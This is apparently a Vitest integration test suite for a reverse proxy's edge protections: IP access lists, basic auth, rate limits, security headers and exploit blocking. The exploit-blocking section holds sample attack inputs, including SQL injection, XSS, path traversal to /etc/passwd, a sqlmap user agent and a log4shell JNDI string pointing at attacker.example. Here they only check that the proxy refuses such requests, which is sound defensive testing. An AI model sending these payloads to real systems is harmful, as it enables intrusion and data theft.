import net from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { hashPassword } from "@/lib/auth/password";
import type { SnapshotAccessList } from "@/lib/schemas/snapshot";
import { securityHeadersSchema } from "@/lib/schemas/site-security";
import { startBackend, type Backend, type EchoResponse } from "@/test-support/backend";
import { TestCertificateFactory } from "@/test-support/certs";
import { startDataPlane, type RunningDataPlane } from "@/test-support/data-plane";
import { request } from "@/test-support/http-client";
import { testCertificate, testSite, testSnapshot } from "@/test-support/snapshots";

/**
 * Attack traffic against a real data plane and a real upstream: each protection must give its
 * precise answer, and what it refuses must never reach the upstream.
 */
const basic = (user: string, password: string) => `Basic ${Buffer.from(`${user}:${password}`).toString("base64")}`;
const echo = (body: string) => JSON.parse(body) as EchoResponse;

describe("edge security", () => {
  let backend: Backend;
  let proxy: RunningDataPlane;
  const certs = new TestCertificateFactory();

  beforeAll(async () => {
    backend = await startBackend({ name: "app", delayMs: 0 });
    const slow = await startBackend({ name: "slow", delayMs: 400 });
    const office: SnapshotAccessList = {
      id: "office",
      name: "Office",
      allow: ["127.0.0.2", "10.0.0.0/8"],
      deny: ["127.0.0.3"],
      satisfy: "all",
      users: [],
    };
    const staff: SnapshotAccessList = {
      id: "staff",
      name: "Staff",
      allow: ["127.0.0.5"],
      deny: [],
      satisfy: "any",
      users: [{ username: "ann", passwordHash: await hashPassword("correct horse") }],
    };
    const crew: SnapshotAccessList = {
      id: "crew",
      name: "Crew",
      allow: [],
      deny: [],
      satisfy: "all",
      users: [{ username: "bob", passwordHash: await hashPassword("battery staple") }],
    };
    const certificate = certs.selfSigned(["*.sec.test"]);
    proxy = await startDataPlane();
    const applied = proxy.plane.apply(
      testSnapshot(
        1,
        [
          testSite({ id: "ip", hostnames: ["ip.sec.test"], upstreams: [backend.url], accessListId: "office" }),
          testSite({ id: "login", hostnames: ["login.sec.test"], upstreams: [backend.url], accessListId: "staff" }),
          testSite({ id: "limited", hostnames: ["limited.sec.test"], upstreams: [backend.url], rateLimit: { requestsPerSecond: 1, burst: 5 } }),
          testSite({
            id: "conns",
            hostnames: ["conns.sec.test"],
            upstreams: [slow.url],
            rateLimit: { requestsPerSecond: 1000, burst: 1000, maxConnectionsPerIp: 2 },
          }),
          testSite({
            id: "crew-conns",
            hostnames: ["crew.sec.test"],
            upstreams: [backend.url],
            accessListId: "crew",
            rateLimit: { requestsPerSecond: 1000, burst: 1000, maxConnectionsPerIp: 1 },
          }),
          testSite({ id: "exploits", hostnames: ["exploits.sec.test"], upstreams: [backend.url], blockExploits: true }),
          testSite({
            id: "headers",
            hostnames: ["headers.sec.test"],
            upstreams: [backend.url],
            certificateId: "cert",
            hsts: true,
            securityHeaders: securityHeadersSchema.parse({
              hsts: { maxAge: 600, includeSubDomains: true },
              contentSecurityPolicy: "default-src 'self'",
            }),
            customHeaders: {
              requestSet: [{ name: "x-team", value: "blue" }],
              requestRemove: ["x-debug"],
              responseSet: [],
              responseRemove: ["x-powered-by"],
            },
          }),
        ],
        [testCertificate("cert", certificate)],
        { accessLists: [office, staff, crew], trustedProxies: ["127.0.0.9"] },
      ),
    );
    expect(applied).toMatchObject({ ok: true, siteErrors: {} });
    afterAllClose.push(() => slow.close());
  });
  const afterAllClose: Array<() => Promise<void>> = [];
  afterAll(async () => {
    await proxy?.close();
    await backend?.close();
    await Promise.all(afterAllClose.map((close) => close()));
    certs.cleanup();
  });

  describe("access lists by address", () => {
    it("lets an allowed address in and refuses the others with 403", async () => {
      expect((await request({ port: proxy.httpPort, host: "ip.sec.test", localAddress: "127.0.0.2" })).status).toBe(200);
      const denied = await request({ port: proxy.httpPort, host: "ip.sec.test", localAddress: "127.0.0.3" });
      expect(denied.status).toBe(403);
      expect(denied.body).toContain("403 Forbidden");
      expect((await request({ port: proxy.httpPort, host: "ip.sec.test", localAddress: "127.0.0.4" })).status).toBe(403);
    });

    it("does not believe X-Forwarded-For from a peer that is not a trusted proxy", async () => {
      const spoofed = await request({
        port: proxy.httpPort,
        host: "ip.sec.test",
        localAddress: "127.0.0.4",
        headers: { "x-forwarded-for": "10.1.2.3" },
      });
      expect(spoofed.status).toBe(403);
    });

    it("believes a trusted proxy, and passes the chain on", async () => {
      const viaCdn = await request({
        port: proxy.httpPort,
        host: "ip.sec.test",
        localAddress: "127.0.0.9",
        headers: { "x-forwarded-for": "10.1.2.3", "x-forwarded-proto": "https" },
      });
      expect(viaCdn.status).toBe(200);
      const seen = echo(viaCdn.body).headers;
      expect(seen["x-real-ip"]).toBe("10.1.2.3");
      expect(seen["x-forwarded-for"]).toBe("10.1.2.3, 127.0.0.9");
      expect(seen["x-forwarded-proto"]).toBe("https");
    });
  });

  describe("basic auth", () => {
    it("asks for a login with 401, accepts the right password, refuses a wrong one", async () => {
      const anonymous = await request({ port: proxy.httpPort, host: "login.sec.test" });
      expect(anonymous.status).toBe(401);
      expect(anonymous.headers["www-authenticate"]).toBe('Basic realm="Staff", charset="UTF-8"');
      const wrong = await request({ port: proxy.httpPort, host: "login.sec.test", headers: { authorization: basic("ann", "guess") } });
      expect(wrong.status).toBe(401);
      const right = await request({ port: proxy.httpPort, host: "login.sec.test", headers: { authorization: basic("ann", "correct horse") } });
      expect(right.status).toBe(200);
    });

    it("lets an allowed address in without a password when either suffices", async () => {
      expect((await request({ port: proxy.httpPort, host: "login.sec.test", localAddress: "127.0.0.5" })).status).toBe(200);
    });
  });

  describe("rate limits", () => {
    it("answers a burst, then 429 with Retry-After, per client address", async () => {
      const statuses: number[] = [];
      for (let i = 0; i < 7; i++)
        statuses.push((await request({ port: proxy.httpPort, host: "limited.sec.test", localAddress: "127.0.1.1" })).status);
      expect(statuses.slice(0, 5)).toEqual([200, 200, 200, 200, 200]);
      expect(statuses.slice(5)).toEqual([429, 429]);
      const limited = await request({ port: proxy.httpPort, host: "limited.sec.test", localAddress: "127.0.1.1" });
      expect(limited.headers["retry-after"]).toBe("1");
      expect(limited.body).toContain("Too Many Requests");
      // Another client is not affected.
      expect((await request({ port: proxy.httpPort, host: "limited.sec.test", localAddress: "127.0.1.2" })).status).toBe(200);
    });

    it("caps the requests one address has in progress", async () => {
      const concurrent = await Promise.all(
        Array.from({ length: 4 }, () => request({ port: proxy.httpPort, host: "conns.sec.test", localAddress: "127.0.1.3" })),
      );
      expect(concurrent.map((r) => r.status).sort()).toEqual([200, 200, 429, 429]);
      // Once they finished, the address may come again.
      expect((await request({ port: proxy.httpPort, host: "conns.sec.test", localAddress: "127.0.1.3" })).status).toBe(200);
    });
  });

  it("frees a connection slot of a client that left while its password was being checked", async () => {
    const authorization = basic("bob", "battery staple");
    for (let index = 0; index < 3; index++) {
      const socket = net.connect({ port: proxy.httpPort, host: "127.0.0.1", localAddress: "127.0.1.4" });
      socket.on("error", () => undefined);
      socket.write(`GET / HTTP/1.1\r\nHost: crew.sec.test\r\nAuthorization: ${authorization}\r\n\r\n`);
      await sleep(5);
      socket.destroy();
    }
    await sleep(500);
    const after = await request({ port: proxy.httpPort, host: "crew.sec.test", localAddress: "127.0.1.4", headers: { authorization } });
    expect(after.status).toBe(200);
  });

  describe("block common exploits", () => {
    it.each([
      ["SQL injection in the query", "/items?id=1%27%20UNION%20SELECT%20password%20FROM%20users--", {}],
      ["cross-site scripting in the query", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", {}],
      ["path traversal", "/static/..%2f..%2f..%2fetc/passwd", {}],
      ["a scanner", "/", { "user-agent": "sqlmap/1.7.2#stable (https://sqlmap.org)" }],
      ["a web shell upload probe", "/wp-content/uploads/shell.php", {}],
      ["log4shell in a header", "/", { "x-api-version": "${jndi:ldap://attacker.example/a}" }],
    ])("refuses %s with 403, and the upstream never sees it", async (_name, path, headers) => {
      const before = backend.received();
      const res = await request({ port: proxy.httpPort, host: "exploits.sec.test", path, headers });
      expect(res.status).toBe(403);
      expect(backend.received()).toBe(before);
    });

    it("serves ordinary requests on the same site", async () => {
      const res = await request({ port: proxy.httpPort, host: "exploits.sec.test", path: "/search?q=O%27Reilly%20%22exact%20phrase%22&page=2" });
      expect(res.status).toBe(200);
    });
  });

  describe("headers", () => {
    it("adds the security headers, HSTS with its options over HTTPS, and the custom headers", async () => {
      const res = await request({
        port: proxy.httpsPort,
        host: "headers.sec.test",
        tls: {},
        headers: { "x-debug": "1", "x-team": "red" },
      });
      expect(res.status).toBe(200);
      expect(res.headers["strict-transport-security"]).toBe("max-age=600; includeSubDomains");
      expect(res.headers["x-frame-options"]).toBe("SAMEORIGIN");
      expect(res.headers["x-content-type-options"]).toBe("nosniff");
      expect(res.headers["referrer-policy"]).toBe("strict-origin-when-cross-origin");
      expect(res.headers["content-security-policy"]).toBe("default-src 'self'");
      const seen = echo(res.body).headers;
      expect(seen["x-team"]).toBe("blue");
      expect(seen["x-debug"]).toBeUndefined();
    });

    it("sends no HSTS over plain HTTP", async () => {
      const res = await request({ port: proxy.httpPort, host: "headers.sec.test" });
      expect(res.headers["strict-transport-security"]).toBeUndefined();
      expect(res.headers["x-frame-options"]).toBe("SAMEORIGIN");
    });
  });
});
